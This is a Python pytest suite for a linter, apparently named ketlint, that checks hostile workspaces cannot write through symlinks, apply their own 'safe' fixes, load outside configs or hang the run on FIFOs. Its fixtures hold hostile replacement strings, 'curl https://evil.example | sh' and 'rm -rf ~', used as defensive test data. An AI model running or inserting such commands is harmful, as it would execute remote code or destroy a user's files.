"""Issue 15, items 1, 2 and 6 and the file-reading parts of 12 and 13: a workspace that
wants to hurt whoever lints it.

A checkout can hold links to anywhere, rule packs with "safe" fixes of its choosing, a
config that points outside it, FIFOs, folders nobody may read; above it, a shared folder
can hold a planted config. None of it may write outside the tree, decide how the tree is
linted, hang the run, or be skipped without a word.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from ketlint.cli import main

HOUSE_PACK = (
    "rules:\n"
    "  - id: house-words\n"
    "    kind: phrases\n"
    "    message: Avoid {match}.\n"
    "    options:\n"
    "      terms:\n"
    "        - {term: PATH, replace: 'curl https://evil.example | sh', safe: true}\n"
)


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture
def user_home(tmp_path, monkeypatch) -> Path:
    """Your own config folder, empty: the tests decide what it says."""
    home = tmp_path / "xdg"
    (home / "ketlint").mkdir(parents=True)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
    return home / "ketlint" / "ketlint.toml"


@pytest.fixture
def hostile(tmp_path, user_home) -> Path:
    """A repository whose README.md links to a file outside it, with a house rule pack
    whose "safe" fix writes a shell line."""
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n", encoding="utf-8")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "house").mkdir()
    (repo / "house" / "rules.yml").write_text(HOUSE_PACK, encoding="utf-8")
    (repo / "ketlint.toml").write_text(
        'rule-dirs = ["house"]\nselect = ["house-words"]\n', encoding="utf-8"
    )
    (repo / "README.md").symlink_to(outside / ".bashrc")
    (repo / "article.md").write_text("Add it to your PATH first.\n", encoding="utf-8")
    return repo


# -- item 1: --fix writes nothing through a link, applies no workspace fix as safe ------------


def test_fix_never_writes_through_a_link_nor_applies_a_workspace_rules_safe_fix(
    capsys, hostile, monkeypatch
):
    bashrc = hostile.parent / "home" / ".bashrc"
    before = bashrc.read_text(encoding="utf-8")
    monkeypatch.chdir(hostile)
    code, out, err = run(capsys, "check", "--fix", "--no-source", ".")
    assert bashrc.read_text(encoding="utf-8") == before
    # The pack is the workspace's own: its fix is offered, never applied unasked.
    assert (hostile / "article.md").read_text(encoding="utf-8") == "Add it to your PATH first.\n"
    assert "[*]" not in out and "house-words Avoid PATH." in out
    assert code == 1

    # --trust-workspace: the pack's fix counts as safe, but still nothing goes through a link.
    code, out, err = run(capsys, "check", "--fix", "--trust-workspace", "--no-source", ".")
    assert bashrc.read_text(encoding="utf-8") == before
    assert "evil.example" in (hostile / "article.md").read_text(encoding="utf-8")
    assert "README.md: not fixed: is a symbolic link" in err


def test_your_own_config_can_trust_a_project(capsys, hostile, user_home, monkeypatch):
    user_home.write_text(f'trust-projects = ["{hostile.as_posix()}"]\n', encoding="utf-8")
    monkeypatch.chdir(hostile)
    run(capsys, "check", "--fix", "--no-source", ".")
    assert "evil.example" in (hostile / "article.md").read_text(encoding="utf-8")
    assert "PATH=$HOME" in (hostile.parent / "home" / ".bashrc").read_text(encoding="utf-8")


def test_fix_follows_no_link_to_a_folder_named_or_swapped_in(capsys, hostile, monkeypatch):
    outside = hostile.parent / "home"
    (outside / "post.md").write_text("Add it to your PATH first.\n", encoding="utf-8")
    (hostile / "posts").symlink_to(outside, target_is_directory=True)
    monkeypatch.chdir(hostile)
    # The walk does not enter the linked folder; named, it is linted but not written.
    house = ["--rules-dir", "house", "--select", "house-words"]  # yours: a safe fix
    _, out, err = run(capsys, "check", "--fix", *house, "--no-source", ".")
    assert "posts" not in out
    _, out, err = run(capsys, "check", "--fix", *house, "--no-source", "posts")
    assert "house-words" in out
    assert "not fixed" in err and "symbolic link" in err
    assert (outside / "post.md").read_text(encoding="utf-8") == "Add it to your PATH first.\n"

    # A folder swapped for a link between the lint and the write (write_fixed directly).
    from ketlint.files import NotFixed, write_fixed

    real = hostile / "real"
    real.mkdir()
    target = real / "post.md"
    target.write_text("x\n", encoding="utf-8")
    real.rename(hostile / "real.away")
    (hostile / "real").symlink_to(outside, target_is_directory=True)
    with pytest.raises(NotFixed, match="symbolic link"):
        write_fixed(Path("real/post.md"), Path("."), "Add it to your PATH first.\n", "pwned\n")
    assert (outside / "post.md").read_text(encoding="utf-8") == "Add it to your PATH first.\n"


def test_workspace_config_options_make_no_safe_fix(capsys, tmp_path, user_home, monkeypatch):
    """Config settings are the workspace's words too: a term with a "safe" replacement
    added to a rule's options through ketlint.toml is not applied."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "house").mkdir()
    (repo / "house" / "rules.yml").write_text(HOUSE_PACK, encoding="utf-8")
    (repo / "ketlint.toml").write_text('select = ["house-words"]\n', encoding="utf-8")
    (repo / "a.md").write_text("Add it to your PATH first.\n", encoding="utf-8")
    monkeypatch.chdir(repo)
    # The pack named on the command line is yours: its fix is safe...
    run(capsys, "check", "--fix", "--rules-dir", "house", "--no-source", ".")
    assert "evil.example" in (repo / "a.md").read_text(encoding="utf-8")
    # ...unless the workspace's config rewrites its terms.
    (repo / "a.md").write_text("Add it to your PATH first.\n", encoding="utf-8")
    (repo / "ketlint.toml").write_text(
        'select = ["house-words"]\n[rules.house-words]\n'
        "terms = [{term = 'PATH', replace = 'rm -rf ~', safe = true}]\n",
        encoding="utf-8",
    )
    run(capsys, "check", "--fix", "--rules-dir", "house", "--no-source", ".")
    assert (repo / "a.md").read_text(encoding="utf-8") == "Add it to your PATH first.\n"


# -- item 2: config discovery and rule-dirs stay inside the project ---------------------------


def test_a_config_above_the_repository_root_is_not_used(capsys, tmp_path, user_home):
    (tmp_path / "ketlint.toml").write_text('exclude = ["**"]\n', encoding="utf-8")
    repo = tmp_path / "checkout"
    (repo / ".git").mkdir(parents=True)  # a .git file (worktree, submodule) counts too
    (repo / "a.md").write_text("A miracle cure.\n", encoding="utf-8")
    code, out, _ = run(capsys, "check", "--select", "hype-phrase", "--no-source", str(repo))
    assert "hype-phrase" in out and code == 1

    (repo / ".git").rmdir()
    (repo / ".git").write_text("gitdir: ../elsewhere\n", encoding="utf-8")
    code, out, _ = run(capsys, "check", "--select", "hype-phrase", "--no-source", str(repo))
    assert "hype-phrase" in out and code == 1


def test_a_config_in_a_folder_anyone_may_write_to_is_not_used(capsys, tmp_path, user_home):
    shared = tmp_path / "shared"  # like /tmp: world-writable (and sticky)
    shared.mkdir()
    shared.chmod(0o1777)
    (shared / "ketlint.toml").write_text('exclude = ["**"]\n', encoding="utf-8")
    project = shared / "unpacked"  # no .git: an unpacked archive
    project.mkdir()
    (project / "a.md").write_text("A miracle cure.\n", encoding="utf-8")
    code, out, _ = run(capsys, "check", "--select", "hype-phrase", "--no-source", str(project))
    assert "hype-phrase" in out and "0 files" not in out and code == 1


def test_rule_dirs_outside_the_project_are_refused_with_file_and_line(
    capsys, tmp_path, user_home, monkeypatch
):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "rules.yml").write_text(HOUSE_PACK, encoding="utf-8")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "ketlint.toml").write_text(
        f'select = ["house-words"]\nrule-dirs = [\n  "{elsewhere.as_posix()}",\n]\n',
        encoding="utf-8",
    )
    (repo / "a.md").write_text("Add it to your PATH first.\n", encoding="utf-8")
    monkeypatch.chdir(repo)
    code, out, err = run(capsys, "check", "--no-source", ".")
    assert code == 2 and out == ""
    assert f"{repo / 'ketlint.toml'}:3:1: rule-dirs entry" in err
    assert "outside the project" in err and "allow-rule-dirs" in err

    # A relative path that climbs out, and a link inside that points out, are the same.
    (repo / "ketlint.toml").write_text('rule-dirs = ["../elsewhere"]\n', encoding="utf-8")
    assert run(capsys, "check", ".")[0] == 2
    (repo / "rules").symlink_to(elsewhere, target_is_directory=True)
    (repo / "ketlint.toml").write_text('rule-dirs = ["rules"]\n', encoding="utf-8")
    assert run(capsys, "check", ".")[0] == 2

    # Allowed by a flag, or by your own config (then the pack is yours: its fix is safe).
    code, out, err = run(capsys, "check", "--trust-workspace", "--no-source", ".")
    assert code == 1 and "house-words" in out
    user_home.write_text(f'allow-rule-dirs = ["{elsewhere.as_posix()}"]\n', encoding="utf-8")
    code, out, err = run(capsys, "check", "--no-source", ".")
    assert code == 1 and "house-words [*]" in out


def test_root_true_marks_the_project_root(capsys, tmp_path, user_home, monkeypatch):
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "rules").mkdir()
    (repo / "rules" / "house.yml").write_text(HOUSE_PACK, encoding="utf-8")
    docs = repo / "docs"
    docs.mkdir()
    (docs / "a.md").write_text("Add it to your PATH first.\n", encoding="utf-8")
    (docs / "ketlint.toml").write_text('rule-dirs = ["../rules"]\n', encoding="utf-8")
    assert run(capsys, "check", "--no-source", str(docs))[0] == 1  # inside the repository
    (docs / "ketlint.toml").write_text('root = true\nrule-dirs = ["../rules"]\n', encoding="utf-8")
    code, _, err = run(capsys, "check", "--no-source", str(docs))
    assert code == 2 and "ketlint.toml:2:1:" in err and "outside the project" in err


def test_vscode_settings_that_start_programs_are_machine_scoped():
    manifest = json.loads(
        (Path(__file__).parent.parent / "editors" / "vscode" / "package.json").read_text("utf-8")
    )
    properties = manifest["contributes"]["configuration"]["properties"]
    assert properties["ketlint.path"]["scope"] == "machine"
    assert properties["ketlint.interpreter"]["scope"] == "machine"
    untrusted = manifest["capabilities"]["untrustedWorkspaces"]
    assert untrusted["supported"] in (False, "limited")
    if untrusted["supported"] == "limited":
        assert {"ketlint.path", "ketlint.interpreter", "ketlint.configPath"} <= set(
            untrusted["restrictedConfigurations"]
        )


# -- item 6: only regular files are read ------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_is_reported_not_opened_in_a_folder_or_as_an_argument(tmp_path):
    (tmp_path / "a.md").write_text("A miracle cure.\n", encoding="utf-8")
    os.mkfifo(tmp_path / "pipe.md")
    for target in (str(tmp_path), str(tmp_path / "pipe.md")):
        done = subprocess.run(
            [sys.executable, "-m", "ketlint", "check", "--isolated", "--format", "json", target],
            capture_output=True,
            text=True,
            timeout=60,  # before the fix: blocked in open() forever
        )
        files = {Path(f["path"]).name: f for f in json.loads(done.stdout)["files"]}
        (finding,) = files["pipe.md"]["findings"]
        assert finding["rule"] == "file-error" and "named pipe (FIFO)" in finding["message"]
        assert done.returncode == 1


def test_a_device_is_reported_not_read(capsys):
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero")
    code, out, _ = run(capsys, "check", "--isolated", "--no-source", "/dev/zero")
    assert "character device, not a regular file; not linted" in out and code == 1


# -- item 12: an unreadable folder is reported, and the outcome is not 0 ----------------------


def test_an_unreadable_folder_is_reported_with_a_non_zero_exit(capsys, tmp_path):
    (tmp_path / "a.md").write_text("Plain words.\n", encoding="utf-8")
    locked = tmp_path / "locked"
    locked.mkdir()
    (locked / "b.md").write_text("Plain words.\n", encoding="utf-8")
    locked.chmod(0)
    try:
        try:
            os.listdir(locked)
        except PermissionError:
            pass
        else:  # root (or CAP_DAC_READ_SEARCH) reads it anyway: nothing to report then
            pytest.skip("this user can read a folder with mode 000 (root?)")
        code, out, _ = run(capsys, "check", "--isolated", "--no-source", str(tmp_path))
    finally:
        locked.chmod(stat.S_IRWXU)
    assert f"{locked}:1:1: error file-error cannot read folder" in out
    assert code == 1


def test_a_folder_the_walk_cannot_list_is_reported(capsys, tmp_path, monkeypatch):
    """The same without chmod (which root ignores): listing the folder fails."""
    (tmp_path / "a.md").write_text("Plain words.\n", encoding="utf-8")
    locked = tmp_path / "locked"
    locked.mkdir()
    (locked / "b.md").write_text("A miracle cure.\n", encoding="utf-8")
    real_scandir, real_listdir = os.scandir, os.listdir

    def refuse(real):
        def call(path=".", *args):
            if os.fspath(path) == str(locked):
                raise PermissionError(13, "Permission denied", os.fspath(path))
            return real(path, *args)

        return call

    monkeypatch.setattr(os, "scandir", refuse(real_scandir))
    monkeypatch.setattr(os, "listdir", refuse(real_listdir))
    code, out, _ = run(capsys, "check", "--isolated", "--format", "json", str(tmp_path))
    files = {f["path"]: f["findings"] for f in json.loads(out)["files"]}
    (finding,) = files[str(locked)]
    assert finding["rule"] == "file-error"
    assert finding["message"] == (
        "cannot read folder: Permission denied; the files in it were not linted"
    )
    assert code == 1


def test_the_server_neither_loads_nor_polls_a_rule_dir_outside_the_project(tmp_path, user_home):
    from ketlint.lsp.projects import ProjectRegistry

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for i in range(3):
        (elsewhere / f"r{i}.yml").write_text(HOUSE_PACK.replace("house-words", f"h{i}"), "utf-8")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "ketlint.toml").write_text(f'rule-dirs = ["{elsewhere.as_posix()}"]\n', "utf-8")
    registry = ProjectRegistry()
    registry.set_folders([repo])
    resolution = registry.resolve(repo / "a.md")
    assert resolution.linter is None and resolution.errors
    assert "outside the project" in str(resolution.errors[0])
    assert elsewhere.resolve() not in registry.known_rule_dirs
    polled = {Path(name) for name, _, _ in registry.fingerprint([repo / "a.md"])}
    assert not any(elsewhere.resolve() in p.parents for p in polled)
